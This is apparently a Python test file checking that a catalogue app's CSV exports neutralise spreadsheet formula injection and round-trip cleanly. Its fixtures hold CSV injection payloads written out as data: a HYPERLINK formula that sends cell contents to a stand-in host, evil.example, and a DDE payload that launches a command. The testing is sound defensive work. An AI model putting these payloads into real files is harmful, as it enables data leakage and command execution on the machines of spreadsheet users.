"""Every CSV export is safe to open in a spreadsheet, and an exported catalogue imports
back unchanged (issue #13 item 14)."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace as NS

from app.catalog.csv_io import parse_catalog, write_catalog
from app.catalog.service import export_rows, import_catalog
from app.reports.fulfilment import order_timings, orders_csv
from tests.integration.test_catalog_import import HEADER, A, B, C

HOSTILE = (
    f'EVIL-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",{A},10,5,,piece,'
    "-2+3,@SUM(1+1),yes,0\n"
    f"EVIL-2,+cmd|' /C calc'!A0,{B},10,5,,piece,'=quoted,'plain,yes,0\n"
    f"EVIL-3,'Tis the season,{C},10,5,,piece,,-1e5,yes,0\n"
)


async def test_catalogue_export_neutralises_formulas_and_round_trips(db, cfg):
    parsed = parse_catalog(HEADER + HOSTILE, cfg.measure_rules)
    assert parsed.clean, parsed.errors
    await import_catalog(db, parsed)
    out = io.StringIO(newline="")
    write_catalog(await export_rows(db), out)
    cells = [c for row in csv.reader(io.StringIO(out.getvalue(), newline="")) for c in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert {"'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)", "''Tis the season", "'-1e5",
            "''plain"} <= set(cells)
    # A quote typed before a formula sign is a spreadsheet's own "this is text" mark.
    assert parsed.rows[1].pack_size == "=quoted" and "'=quoted" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    again = parse_catalog(out.getvalue(), cfg.measure_rules)
    assert again.clean, again.errors
    assert sorted((r.sku, r.name, r.pack_size, r.category) for r in again.rows) == sorted(
        (r.sku, r.name, r.pack_size, r.category) for r in parsed.rows)
    report = await import_catalog(db, again)
    assert report.unchanged == 3


def test_fulfilment_report_neutralises_formulas():
    hostile = NS(number="=1+cmd|' /C calc'!A0", state="received", promised_by=None,
                 transitions=[NS(to_state="received", at=None)])
    (header, row) = list(csv.reader(io.StringIO(orders_csv(order_timings([hostile])),
                                                newline="")))
    assert row[0] == "'=1+cmd|' /C calc'!A0"
